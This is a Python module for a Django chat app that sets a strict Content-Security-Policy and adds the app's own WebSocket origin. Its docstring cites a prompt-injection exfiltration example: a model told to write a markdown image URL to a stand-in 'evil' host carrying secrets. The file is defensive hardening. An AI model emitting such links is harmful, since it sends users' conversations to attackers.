"""The Content-Security-Policy of every page (django-csp, CONTENT_SECURITY_POLICY in settings), with the
chat socket's own origin added per request.

Scripts, styles, fonts and frames come from our origin only, and no inline script or style runs, so
a script slipped into a page (a model's reply, a conversation title) cannot execute. Images may be
ours or data:/blob: URLs, never another host's: a model told to write ![](https://evil/?q=<secrets>)
cannot make the browser send the conversation anywhere. Pages cannot be framed (frame-ancestors
'none'), and scripts may only talk back to us: `connect-src 'self'` plus our own ws:// or wss://
origin, which CSP level 2 browsers do not count as 'self'.
"""

from __future__ import annotations

from csp.middleware import CSPMiddleware, PolicyParts
from django.core.exceptions import DisallowedHost
from django.http import HttpRequest, HttpResponseBase


class ContentSecurityPolicyMiddleware(CSPMiddleware):
    def get_policy_parts(
        self, request: HttpRequest, response: HttpResponseBase, report_only: bool = False
    ) -> PolicyParts:
        parts = super().get_policy_parts(request, response, report_only)
        if report_only:
            return parts
        try:
            host = request.get_host()  # validated against ALLOWED_HOSTS
        except DisallowedHost:
            return parts
        socket_origin = f"{'wss' if request.is_secure() else 'ws'}://{host}"
        parts.update = {**(parts.update or {}), "connect-src": [socket_origin]}
        return parts
